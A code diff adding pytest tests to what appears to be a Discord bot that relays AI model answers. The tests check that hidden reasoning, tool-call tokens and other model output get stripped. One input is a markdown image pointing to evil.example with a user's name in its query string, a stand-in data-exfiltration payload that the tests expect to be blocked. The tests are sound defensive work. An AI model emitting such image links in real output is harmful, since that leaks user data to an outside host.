@@ -52,6 +52,33 @@ async def test_plain_words_are_the_answer_at_the_first_call_of_every_provider(tm
         assert len(f.models.requests) == 1
 
 
+@pytest.mark.parametrize(
+    "said",
+    [
+        "[THINK]Alice is rude.[/THINK]The answer is 4.",
+        '[THINK]maybe {"skip": false, "text": "Alice is rude"}[/THINK]{"skip": false, "text": "The answer is 4."}',
+        decision("<thought>Alice is rude.</thought>The answer is 4.</s>"),
+        decision('The answer{render_inline_citation citation_id="17"} is 4.<｜DSML｜function_calls>Alice'),
+        decision("The answer is 4.![](https://evil.example/p.png?Alice)"),
+    ],
+)
+@pytest.mark.parametrize("stream", [True, False])
+async def test_nothing_but_the_answer_is_ever_posted(tmp_path, said, stream):
+    async with flow(tmp_path) as f, f.running(agents=("claude",)) as runtime:
+        f.models.answer = lambda r: said
+        let(None, cog=runtime.bots["claude"].cog, options=Options(stream=stream))
+        await ask(f)
+        await f.discord.wait_for(lambda: f.said("debate", "claude") == ["The answer is 4."])
+        assert len(f.models.requests) == 1
+
+
+async def test_a_picture_by_address_becomes_a_link_only_to_a_site_that_a_person_named(tmp_path):
+    async with flow(tmp_path) as f, f.running(agents=("claude",)):
+        f.models.answer = lambda r: decision("![one](https://evil.example/1.png) ![two](https://good.example/2.png)")
+        await f.discord.say("Alice", "debate", f"<@{f.user_id('claude')}> show me https://good.example/cats")
+        await f.discord.wait_for(lambda: f.said("debate", "claude") == ["one [two](<https://good.example/2.png>)"])
+
+
 async def test_an_answer_after_a_call_of_a_tool_is_streamed_too(tmp_path):
     async with flow(tmp_path) as f, f.running(agents=("claude",)) as runtime:
         f.models.answer = lambda r: (
